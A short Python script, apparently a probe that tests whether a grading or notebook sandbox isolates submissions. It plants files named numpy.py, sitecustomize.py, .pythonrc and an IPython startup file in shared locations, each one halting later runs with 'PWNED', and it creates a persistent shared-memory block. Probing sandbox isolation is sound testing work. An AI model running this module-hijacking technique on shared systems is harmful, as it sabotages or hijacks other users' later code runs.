"""Leaves files, modules and settings that a later submission would load."""
# %% extra
import os, sys, tempfile
for place in (".", os.path.expanduser("~"), tempfile.gettempdir(), "/dev/shm", "/tmp"):
    for name in ("numpy.py", "sitecustomize.py", "checks.py", ".pythonrc", "matplotlibrc", "tiny.ipynb"):
        try: open(f"{place}/{name}", "w").write("raise SystemExit('PWNED')")
        except OSError: pass
try:
    os.makedirs(os.path.expanduser("~/ipython/profile_default/startup"), exist_ok=True)
    open(os.path.expanduser("~/ipython/profile_default/startup/00.py"), "w").write("PWNED")
except OSError: pass
import multiprocessing.shared_memory as shm
kept = shm.SharedMemory(name="PWNED", create=True, size=1000)
